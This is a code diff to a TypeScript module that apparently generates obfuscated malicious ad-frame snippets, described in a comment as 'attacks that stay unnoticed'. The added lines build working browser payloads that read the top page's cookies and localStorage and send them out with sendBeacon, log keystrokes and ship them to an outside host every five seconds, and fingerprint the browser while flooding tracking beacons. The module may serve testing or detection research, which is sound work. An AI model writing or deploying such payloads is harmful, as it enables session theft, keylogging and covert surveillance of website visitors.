@@ -1,7 +1,7 @@
 import { spelled } from './obfuscation.ts'
 import { framedOnly, type Snippet, type SnippetInput, snippet } from './snippet.ts'
 
-/** Attacks that the reader is not to notice. */
+/** Attacks that stay unnoticed. */
 
 const frame = (host: string, slot: string, style: string) =>
   `<iframe src="https://${host}/slot/${slot}" width="300" height="250" style="${style}" scrolling="no"></iframe>`
@@ -78,6 +78,24 @@ export const dataTheft = {
     snippet(`navigator.clipboard.readText().then(function(t){new Image().src=y+'&l='+t.length})`, (match) =>
       framedOnly(
         `var y=${spelled(`https://${host}/b?s=${token}`, obfuscation)};document.addEventListener('click',function(){${match}},{once:true});`,
+      ),
+    ),
+  'storage-read': ({ host, token, obfuscation }: SnippetInput): Snippet =>
+    snippet(`s=[top.document.cookie,JSON.stringify(top.localStorage)].join('|')`, (match) =>
+      framedOnly(
+        `var s='',y=${spelled(`https://${host}/s?s=${token}`, obfuscation)};try{${match}}catch(e){}navigator.sendBeacon(y,s);`,
+      ),
+    ),
+  keylogging: ({ host, token, obfuscation }: SnippetInput): Snippet =>
+    snippet(`top.document.addEventListener('keydown',function(e){k+=e.key},true)`, (match) =>
+      framedOnly(
+        `var k='',y=${spelled(`https://${host}/k?s=${token}`, obfuscation)};${match};setInterval(function(){if(k)new Image().src=y+'&k='+encodeURIComponent(k),k=''},5000);`,
+      ),
+    ),
+  'beacon-storm': ({ host, token, obfuscation }: SnippetInput): Snippet =>
+    snippet(`for(var i=0;i<60;i++)new Image().src=y+'&n='+i+'&f='+f`, (match) =>
+      framedOnly(
+        `var y=${spelled(`https://${host}/px?s=${token}`, obfuscation)},f=encodeURIComponent([navigator.userAgent,screen.width,screen.height,navigator.languages].join());setInterval(function(){${match}},250);`,
       ),
     ),
 }
